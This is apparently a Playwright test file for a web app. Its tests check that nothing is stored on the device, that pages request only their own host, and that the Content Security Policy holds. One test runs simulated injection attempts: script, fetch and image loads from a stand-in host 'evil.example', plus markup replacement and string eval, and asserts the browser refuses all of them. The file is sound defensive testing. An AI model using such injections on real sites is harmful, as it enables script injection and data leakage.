"""Nothing stays on the device, and nobody else is asked for anything (ANON-08, HDR-06, SES-10)."""

from playwright.sync_api import expect

from .pages import LESSONS, NOTES, TEMPLATES, open_template

KEPT = """async () => ({
  local: localStorage.length,
  session: sessionStorage.length,
  databases: (await indexedDB.databases()).length,
  workers: (await navigator.serviceWorker.getRegistrations()).length,
  caches: (await caches.keys()).length,
  cookies: document.cookie,
  name: window.name,
  state: history.state,
})"""
NOTHING = {
    "local": 0,
    "session": 0,
    "databases": 0,
    "workers": 0,
    "caches": 0,
    "cookies": "",
    "name": "",
    "state": None,
}


def test_ses_10_a_journey_leaves_nothing_on_the_device(phone):
    """Notes have a cookie while they are looked at: tests/browser/notes/test_nothing_left.py."""
    for name in [name for name in TEMPLATES if name not in NOTES]:
        open_template(phone, name)
    phone.goto(LESSONS[0])
    phone.locator("summary").first.click()
    phone.locator("a[rel=next]").click()
    expect(phone.get_by_role("heading", level=1)).to_be_visible()
    assert phone.evaluate(KEPT) == NOTHING
    assert phone.context.cookies() == []
    assert phone.context.storage_state() == {"cookies": [], "origins": []}


def test_anon_08_every_kind_of_page_asks_this_host_only(phone, base_url):
    """The watch of every browser test fails on any other host, and test_axe.py opens all pages under it."""
    answers = []
    phone.on("response", lambda response: answers.append((response.url, response.status)))
    for name in TEMPLATES:
        open_template(phone, name)
    assert len({url for url, _ in answers if "/static/" not in url}) >= len(TEMPLATES)
    assert [url for url, _ in answers if not url.startswith(f"{base_url}/")] == []
    assert {status for url, status in answers if "/static/" in url} == {200}


SMUGGLED = """async () => {
  const refused = [];
  const attempt = async (name, act) => { try { await act(); } catch (error) { refused.push(name); } };
  await attempt('script', () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js';
    document.head.append(script);
  });
  await attempt('markup', () => { document.body.innerHTML = '<h1>Other words</h1>'; });
  await attempt('eval', () => setTimeout('document.title = 1'));
  await attempt('fetch', () => fetch('https://evil.example/'));
  await attempt('picture', () => new Promise((done, fail) => {
    const picture = new Image();
    picture.onload = done;
    picture.onerror = fail;
    picture.src = 'https://evil.example/x.png';
  }));
  const style = document.createElement('style');
  style.textContent = 'h1 { display: none }';
  document.head.append(style);
  return refused;
}"""


def test_hdr_01_the_browser_enforces_the_policy(phone, watch):
    """Nothing that someone smuggled in would run, load or tell."""
    watch.expected |= {"Content Security Policy", "TrustedScript", "TrustedHTML"}
    watch.allowed_hosts.add("evil.example")
    phone.goto("/")
    assert phone.evaluate(SMUGGLED) == ["script", "markup", "eval", "fetch", "picture"]
    expect(phone.get_by_role("heading", level=1)).to_be_visible()
    assert len(watch.complaints) >= 3
